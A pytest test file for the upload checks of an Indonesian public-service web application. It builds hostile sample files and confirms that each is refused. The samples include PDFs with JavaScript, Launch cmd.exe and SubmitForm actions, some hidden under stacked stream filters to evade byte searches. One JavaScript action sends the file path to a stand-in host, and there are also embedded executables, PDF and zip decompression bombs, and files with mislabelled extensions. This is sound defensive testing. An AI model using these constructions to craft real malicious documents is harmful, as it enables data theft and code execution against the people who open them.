"""Hostile files at every upload entry point: refused, each with a reason in Bahasa Indonesia.

The counter, the WhatsApp media of an application, the outreach letters and the handover proof
all pass their bytes through alur.core.uploads.check_upload (grep check_upload), so the hostile
files are tried there once; the entry points with their own readers (the report workbooks, the
PIAK coverage file, the signing certificate) are tried at their own door. The verification page's
compare form (not a PDF, too large) is tried in alur/tte/tests/test_verification.py.
"""

from __future__ import annotations

import base64
import binascii
import io
import re
import struct
import zipfile
import zlib

import pytest
import weasyprint
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas

from alur.core import uploads
from alur.core.uploads import (
    ACTIVE_PDF,
    BOMB_PDF,
    COMPLEX_PDF,
    DAMAGED_PDF,
    EMBEDDED_PDF,
    ENCRYPTED_PDF,
    HUGE_IMAGE,
    NOT_ALLOWED,
    FileRejected,
    check_upload,
    read_bounded,
)
from alur.reports import excel
from alur.tte.certificates import NOT_PKCS12
from alur.whatsapp.dialogs.reports import _marker

EXE = b"MZ\x90\x00" + b"\x00" * 200 + b"This program cannot be run in DOS mode.%%EOF"
HTML = b"<!doctype html><html><script>fetch('/kantor/')</script></html>\n%%EOF"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A whole PDF of `objects` (numbered from 1), with its cross-reference table."""
    body = b"%PDF-1.5\n"
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    xref += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    tail = b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        len(body),
    )
    return body + xref + tail


def flate_stream(data: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(data, 9)
    return (
        b"<< /Length %d /Filter /FlateDecode " % len(packed)
        + extra
        + b">>\nstream\n"
        + packed
        + b"\nendstream"
    )


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        return struct.pack(">I", len(body)) + kind + body + crc

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def jpeg(width: int, height: int) -> bytes:
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = (
        b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03" + b"\x01\x11\x00" * 3
    )
    return b"\xff\xd8" + app0 + sof0 + b"\x00" * 32 + b"\xff\xd9"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def _check(data: bytes, name: str, mime: str = "application/pdf") -> str:
    with pytest.raises(FileRejected) as caught:
        check_upload(data, declared_mime=mime, filename=name)
    return caught.value.reason


HARMLESS = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
SCRIPT = b"<< /S /JavaScript /JS (this.exportDataObject()) >>"
ROOT = b"<< /Type /Catalog /Pages 2 0 R "


@pytest.mark.parametrize(
    ("catalog", "third"),
    [
        (ROOT + b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", HARMLESS),
        (ROOT + b"/OpenAction << /S /J#61vaScript /J#53 (x) >> >>", HARMLESS),
        (ROOT + b"/OpenAction 3 0 R >>", SCRIPT),
        (ROOT + b"/AA << /WC << /S /SubmitForm /F (https://x.example) >> >> >>", HARMLESS),
        (ROOT + b"/AA << /O << /S /Launch /F (cmd.exe) >> >> >>", HARMLESS),
    ],
)
def test_a_pdf_that_can_act_is_refused(catalog: bytes, third: bytes) -> None:
    assert _check(pdf(catalog, PAGES, third), "akta.pdf") == ACTIVE_PDF
    assert check_upload(pdf(CATALOG, PAGES, HARMLESS), declared_mime="", filename="a.pdf")


def test_a_script_hidden_in_a_compressed_object_stream_is_found() -> None:
    hidden = b"3 0 << /S /JavaScript /JS (app.launchURL('x')) >>"
    data = pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
        PAGES,
        flate_stream(hidden, b"/Type /ObjStm /N 1 /First 4 "),
    )
    assert b"JavaScript" not in data
    assert _check(data, "kk.pdf") == ACTIVE_PDF
    # The same file with a harmless compressed page content is accepted.
    plain = pdf(CATALOG, PAGES, flate_stream(b"BT /F1 12 Tf (Kartu Keluarga) Tj ET"))
    assert check_upload(plain, declared_mime="application/pdf", filename="kk.pdf").mime == (
        "application/pdf"
    )


def test_a_pdf_stream_that_inflates_without_end_is_refused() -> None:
    bomb = flate_stream(b"\x00" * (80 * 1024 * 1024))
    data = pdf(CATALOG, PAGES, bomb)
    assert len(data) < 200 * 1024
    assert _check(data, "ktp.pdf") == BOMB_PDF
    assert "terlalu besar" in BOMB_PDF


@pytest.mark.parametrize(
    ("data", "name"),
    [(png(100_000, 100_000), "foto.png"), (jpeg(65_000, 65_000), "foto.jpg")],
)
def test_an_image_declaring_huge_dimensions_is_refused(data: bytes, name: str) -> None:
    assert _check(data, name, "image/png") == HUGE_IMAGE
    # The same image at a phone camera's size is accepted.
    small = png(4000, 3000) if name.endswith(".png") else jpeg(4000, 3000)
    assert check_upload(small, declared_mime="image/png", filename=name).size == len(small)


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        (HTML, "akta.pdf", NOT_ALLOWED),
        (EXE, "akta.pdf", NOT_ALLOWED),
        (pdf(CATALOG, PAGES), "foto.jpg", "berakhiran .jpg tetapi isinya PDF"),
        (png(10, 10), "ktp.JPG", "berakhiran .jpg tetapi isinya gambar PNG"),
        (jpeg(10, 10), "surat.pdf", "berakhiran .pdf tetapi isinya gambar JPG"),
    ],
)
def test_a_file_whose_name_lies_is_refused(data: bytes, name: str, expected: str) -> None:
    assert expected in _check(data, name)


def test_a_name_without_a_known_extension_leaves_the_bytes_to_decide() -> None:
    assert check_upload(png(2, 2), declared_mime="", filename="media-8812").extension == "png"


def test_an_oversized_file_is_refused_before_it_is_read() -> None:
    data = pdf(CATALOG, PAGES, b"<< /Pad (" + b"x" * (5 * 1024 * 1024) + b") >>")
    assert _check(data, "akta.pdf") == "Berkas terlalu besar: paling besar 5 MB."


def test_an_upload_is_read_only_up_to_one_byte_past_the_limit() -> None:
    """Each page's upload goes through read_bounded: a 40 MB file is never held whole."""
    huge = SimpleUploadedFile("bukti.pdf", b"%PDF-1.5\n" + b"x" * (40 * 1024 * 1024), "image/png")
    data, declared, name = read_bounded(huge)
    assert len(data) == 5 * 1024 * 1024 + 1
    assert (declared, name) == ("image/png", "bukti.pdf")
    with pytest.raises(FileRejected, match="terlalu besar"):
        check_upload(data, declared_mime=declared, filename=name)


# --- PDFs read as a viewer reads them: every filter, every object stream ---------------------


def packed_pdf(plain: list[bytes], packed: list[bytes], filters: bytes, encode) -> bytes:
    """A PDF whose `packed` objects live in one object stream encoded by `encode` and declared
    with `filters`, found through a cross-reference stream. `plain` objects are numbered from
    1, the object stream follows them, then the packed objects, then the cross-reference
    stream."""
    stream_number = len(plain) + 1
    first_packed = stream_number + 1
    xref_number = first_packed + len(packed)
    header, bodies = b"", b""
    for index, content in enumerate(packed):
        header += b"%d %d " % (first_packed + index, len(bodies))
        bodies += content + b"\n"
    encoded = encode(header + bodies)
    objects = [
        *plain,
        b"<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n"
        % (len(packed), len(header), filters, len(encoded))
        + encoded
        + b"\nendstream",
    ]
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref_at = len(body)
    rows = b"\x00" + b"\x00" * 6
    rows += b"".join(b"\x01" + struct.pack(">IH", offset, 0) for offset in offsets)
    rows += b"".join(b"\x02" + struct.pack(">IH", stream_number, i) for i in range(len(packed)))
    rows += b"\x01" + struct.pack(">IH", xref_at, 0)
    body += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(rows))
        + rows
        + b"\nendstream\nendobj\n"
    )
    return body + b"startxref\n%d\n%%%%EOF\n" % xref_at


def hex_encode(data: bytes) -> bytes:
    return binascii.hexlify(data) + b">"


def flate_twice(data: bytes) -> bytes:
    return zlib.compress(zlib.compress(data))


def a85_flate(data: bytes) -> bytes:
    return base64.a85encode(zlib.compress(data)) + b"~>"


TWO_FLATE = b"[/FlateDecode /FlateDecode]"
A85_FLATE = b"[/ASCII85Decode /FlateDecode]"
OPENS = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
JS_ACTION = b"<< /S /JavaScript /JS (app.launchURL('https://x.example/?'+this.path)) >>"
ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + b">>"


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>"


HOSTILE_PDFS = {
    "js-openaction-under-asciihex": (
        packed_pdf([OPENS, PAGES], [JS_ACTION], b"/ASCIIHexDecode", hex_encode),
        ACTIVE_PDF,
    ),
    "js-openaction-under-two-flate-layers": (
        packed_pdf([OPENS, PAGES], [JS_ACTION], TWO_FLATE, flate_twice),
        ACTIVE_PDF,
    ),
    "js-link-in-an-object-stream": (
        packed_pdf(
            [CATALOG, ONE_PAGE, page(b"/Annots [5 0 R] ")], [link(JS_ACTION)], A85_FLATE, a85_flate
        ),
        ACTIVE_PDF,
    ),
    "uri-openaction": (
        pdf(ROOT + b"/OpenAction << /S /URI /URI (https://x.example/lacak) >> >>", PAGES),
        ACTIVE_PDF,
    ),
    "launch-link-in-an-object-stream": (
        packed_pdf(
            [CATALOG, ONE_PAGE, page(b"/Annots [5 0 R] ")],
            [link(b"<< /S /Launch /F (cmd.exe) >>")],
            b"/ASCIIHexDecode",
            hex_encode,
        ),
        ACTIVE_PDF,
    ),
    "embedded-file-attachment": (
        pdf(
            CATALOG,
            ONE_PAGE,
            page(b"/Annots [4 0 R] "),
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
            b"<< /Type /Filespec /F (surat.exe) /EF << /F 6 0 R >> >>",
            flate_stream(EXE),
        ),
        EMBEDDED_PDF,
    ),
    "submitform-field-in-an-object-stream": (
        packed_pdf(
            [b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>", PAGES],
            [b"<< /FT /Btn /T (kirim) /A << /S /SubmitForm /F (https://x.example/) >> >>"],
            TWO_FLATE,
            flate_twice,
        ),
        ACTIVE_PDF,
    ),
    "annotation-with-additional-actions": (
        pdf(
            CATALOG,
            ONE_PAGE,
            page(b"/Annots [4 0 R] "),
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
            b"/AA << /E << /S /URI /URI (https://x.example/) >> >> >>",
        ),
        ACTIVE_PDF,
    ),
}


@pytest.mark.parametrize("case", HOSTILE_PDFS)
def test_a_hostile_pdf_is_refused_whatever_filter_hides_it(case: str) -> None:
    data, reason = HOSTILE_PDFS[case]
    assert _check(data, "akta.pdf") == reason


def test_the_hostile_pdfs_hide_their_names_from_a_byte_search() -> None:
    """The hidden cases keep /JavaScript, /Launch and /SubmitForm out of the file's bytes."""
    for case in ("under-asciihex", "two-flate", "js-link", "launch", "submitform"):
        data = next(d for name, (d, _) in HOSTILE_PDFS.items() if case in name)
        assert not re.search(rb"JavaScript|Launch|SubmitForm", data), case


def test_a_pdf_made_by_weasyprint_with_a_link_is_accepted() -> None:
    html = '<h1>Kartu Keluarga</h1><p><a href="https://alur.example/lacak/">Lacak</a></p>'
    data = weasyprint.HTML(string=html).write_pdf()
    assert check_upload(data, declared_mime="application/pdf", filename="kk.pdf").size == len(data)


def test_a_scanned_pdf_made_by_reportlab_is_accepted() -> None:
    out = io.BytesIO()
    sheet = canvas.Canvas(out)
    for number in range(3):
        scan = io.BytesIO()
        Image.new("L", (1240, 1754), 230 - number).save(scan, "JPEG", quality=70)
        scan.seek(0)
        sheet.drawImage(ImageReader(scan), 0, 0, 595, 842)
        sheet.drawString(40, 40, "Akta Kelahiran")
        sheet.showPage()
    sheet.save()
    data = out.getvalue()
    assert check_upload(data, declared_mime="", filename="scan.pdf").mime == "application/pdf"


def test_reading_a_pdf_stops_at_its_time_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "MAX_PDF_SECONDS", -1.0)
    assert _check(pdf(CATALOG, PAGES, HARMLESS), "akta.pdf") == COMPLEX_PDF


def test_an_encrypted_pdf_is_refused_with_a_message() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("rahasia", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    assert _check(out.getvalue(), "akta.pdf") == ENCRYPTED_PDF


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n",
        pdf(CATALOG, PAGES)[:-60] + b"startxref\n999999\n%%EOF\n",
    ],
    ids=["no-objects", "broken-table"],
)
def test_a_damaged_pdf_is_refused_as_damaged(data: bytes) -> None:
    assert _check(data, "akta.pdf") == DAMAGED_PDF


# --- the report workbooks and the PIAK coverage file (alur/reports) --------------------------


def _xlsx_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/sharedStrings.xml", "<sst>" + " " * (30 * 1024 * 1024) + "</sst>")
    return out.getvalue()


def test_a_zip_bomb_workbook_is_refused_by_the_weekly_form_reader() -> None:
    data = _xlsx_bomb()
    assert len(data) < 100 * 1024
    with pytest.raises(excel.ImportRejected) as caught:
        excel.form_read(
            data, definition_code="X", starts_on="2026-01-05", office_code="18.08", keys=["a"]
        )
    assert caught.value.problems == [excel.ZIP_BOMB]
    assert _marker(data) == []  # the WhatsApp path reads the form's marker first


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        (_xlsx_bomb(), "cakupan.xlsx", excel.ZIP_BOMB),
        (HTML, "cakupan.xlsx", "Berkas bukan buku kerja Excel (.xlsx)."),
        (b"PK\x03\x04" + b"\x00" * 64, "cakupan.xlsx", "Berkas Excel tidak dapat dibaca"),
    ],
)
def test_the_coverage_reader_names_the_problem_instead_of_failing(
    data: bytes, name: str, expected: str
) -> None:
    read = excel.coverage_read(data, name, indicators=["ktp"])
    assert read.rows == []
    assert any(expected in problem for problem in read.problems), read.problems


# --- the signing certificate (.p12) ----------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"0\x82" + b"\x00" * (65 * 1024), "Berkas sertifikat terlalu besar (paling besar 64 KB)."),
        (pdf(CATALOG, PAGES), NOT_PKCS12),
        (EXE, NOT_PKCS12),
    ],
)
def test_a_certificate_upload_that_is_not_a_certificate_is_refused(
    client, persona, data: bytes, expected: str
) -> None:
    user = persona("waykanan.kadis")
    client.force_login(user)
    upload = SimpleUploadedFile("ttd.p12", data, content_type="application/x-pkcs12")
    response = client.post("/naskah/sertifikat/", {"p12": upload, "passphrase": "rahasia"})
    assert response.status_code == 200
    assert expected in response.content.decode()
    assert not user.signer_certificates.exists()
